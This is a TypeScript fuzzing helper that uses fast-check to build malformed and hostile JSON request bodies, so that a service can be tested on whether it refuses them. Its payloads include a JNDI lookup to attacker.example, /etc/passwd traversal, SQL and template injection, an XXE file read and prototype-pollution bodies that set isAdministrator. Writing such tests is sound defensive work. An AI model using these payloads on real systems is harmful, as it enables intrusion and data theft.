import naughtyStrings from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };
import fc from 'fast-check';

/** A request body as it is sent, and what is wrong with it. */
export interface BodyAttack {
  readonly name: string;
  readonly bytes: Buffer;
}

/** Where something lies in a JSON value: keys and indexes from the top. */
type Path = readonly (string | number)[];

/** Strings that break programs: the big list, and what it lacks. */
export const naughty: readonly string[] = [
  ...(naughtyStrings as readonly string[]),
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '\u2066\u2067',
  '\ufeff',
  '\u0085\u2028\u2029',
  'å'.repeat(5_000),
  '😀'.repeat(3_000),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '19121212-1212',
  '__proto__',
  'constructor',
  '../../../etc/passwd',
  '%2e%2e%2f',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  "'; DROP TABLE samsyn; --",
  '2080#plan#1',
  'EVENT#0000000001',
];

const every = (value: unknown, isMeant: (value: unknown) => boolean, path: Path = []): Path[] => [
  ...(isMeant(value) ? [path] : []),
  ...(typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([key, inner]) =>
        every(inner, isMeant, [...path, Array.isArray(value) ? Number(key) : key]),
      )
    : []),
];

const replaced = (value: unknown, [key, ...rest]: Path, by: unknown): unknown => {
  if (key === undefined) return by;
  if (Array.isArray(value)) {
    return value.map((inner, index) => (index === key ? replaced(inner, rest, by) : inner));
  }
  const object = value as Record<string, unknown>;
  return { ...object, [key]: replaced(object[key], rest, by) };
};

const without = (value: unknown, path: Path): unknown => {
  const key = path.at(-1);
  const parentPath = path.slice(0, -1);
  const parent = parentPath.reduce<unknown>((inner, step) => (inner as Record<string, unknown>)[step], value);
  const changed = Array.isArray(parent)
    ? parent.filter((_, index) => index !== key)
    : Object.fromEntries(Object.entries(parent as object).filter(([name]) => name !== key));
  return replaced(value, parentPath, changed);
};

/** A field that no request has: whatever else is right, this one is refused. */
export const unknownField = 'okäntFält';

const sure = (value: unknown): unknown =>
  typeof value === 'object' && value !== null && !Array.isArray(value)
    ? { ...value, [unknownField]: true }
    : value;

const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value) ?? '');

const values: readonly unknown[] = [
  null,
  true,
  -1,
  0.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  [],
  {},
  [[]],
  { toString: 'x' },
];

const nested = (depth: number, [open, close]: readonly [string, string]): Buffer =>
  Buffer.from(`${open.repeat(depth)}1${close.repeat(depth)}`);

/** Bodies that are wrong whatever the operation is. */
const wrongWhole = fc.oneof(
  fc.constantFrom<BodyAttack>(
    { name: 'an empty body', bytes: Buffer.alloc(0) },
    { name: 'white space', bytes: Buffer.from('  \n') },
    { name: 'null', bytes: Buffer.from('null') },
    { name: 'a number', bytes: Buffer.from('1e999') },
    { name: 'a string', bytes: Buffer.from('"body"') },
    { name: 'an array', bytes: Buffer.from('[]') },
    {
      name: 'XML',
      bytes: Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      ),
    },
    {
      name: 'bytes that are no UTF-8',
      bytes: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
    },
    { name: 'UTF-16', bytes: Buffer.from('\ufeff{"a":1}', 'utf16le') },
    { name: 'prototype keys', bytes: Buffer.from('{"__proto__":{"isAdministrator":true}}') },
    { name: 'prototype keys', bytes: Buffer.from('{"constructor":{"prototype":{"isAdministrator":true}}}') },
    { name: 'too large a body', bytes: Buffer.from(JSON.stringify({ text: 'x'.repeat(400_000) })) },
  ),
  fc
    .record({
      depth: fc.integer({ min: 33, max: 6_000 }),
      pair: fc.constantFrom<[string, string]>(['[', ']'], ['{"a":', '}']),
    })
    .map(({ depth, pair }): BodyAttack => ({ name: 'deep nesting', bytes: nested(depth, pair) })),
);

/** The ways to spoil a body that was right: each refused for sure, and each reaching as deep as it can. */
export function bodyAttacks(example: unknown, foreignIds: readonly string[]): fc.Arbitrary<BodyAttack> {
  const anywhere = every(example, () => true);
  const strings = every(example, (value) => typeof value === 'string');
  const ids = every(example, (value) => typeof value === 'string' && /^[0-9a-f-]{36}$/.test(value));
  const inner = anywhere.filter((path) => path.length > 0);
  const at = (paths: readonly Path[]) => fc.constantFrom(...paths);
  const text = JSON.stringify(example);

  const attacks: fc.Arbitrary<BodyAttack>[] = [
    wrongWhole,
    fc.tuple(at(anywhere), fc.constantFrom(...values)).map(([path, value]) => ({
      name: 'a value of another kind',
      bytes: json(sure(replaced(example, path, value))),
    })),
    fc.tuple(at(anywhere), fc.jsonValue({ maxDepth: 4 })).map(([path, value]) => ({
      name: 'any JSON somewhere',
      bytes: json(sure(replaced(example, path, value))),
    })),
    fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((length) => ({
      name: 'a body that breaks off',
      bytes: Buffer.from(text.slice(0, length)),
    })),
    fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', unknownField).map((key) => ({
      name: 'a key that is not there',
      bytes: Buffer.from(`{${JSON.stringify(key)}:{"isAdministrator":true},${text.slice(1)}`),
    })),
    fc.constant({
      name: 'keys given twice',
      bytes: Buffer.from(`{"${unknownField}":1,"${unknownField}":2,${text.slice(1)}`),
    }),
  ];
  if (strings.length > 0) {
    attacks.push(
      fc.tuple(at(strings), fc.constantFrom(...naughty)).map(([path, value]) => ({
        name: 'a naughty string',
        bytes: json(sure(replaced(example, path, value))),
      })),
      fc.constantFrom(...naughty).map((value) => ({
        name: 'a naughty string in every field',
        bytes: json(sure(strings.reduce((body, path) => replaced(body, path, value), example))),
      })),
      fc.tuple(at(strings), fc.string({ unit: 'binary', maxLength: 300 })).map(([path, value]) => ({
        name: 'any string',
        bytes: json(sure(replaced(example, path, value))),
      })),
    );
  }
  if (inner.length > 0) {
    attacks.push(
      at(inner).map((path) => ({ name: 'a field left out', bytes: json(sure(without(example, path))) })),
    );
  }
  if (ids.length > 0) {
    attacks.push(
      fc.tuple(at(ids), fc.constantFrom(...foreignIds)).map(([path, id]) => ({
        name: 'a foreign id in the body',
        bytes: json(sure(replaced(example, path, id))),
      })),
    );
  }
  return fc.oneof(...attacks);
}
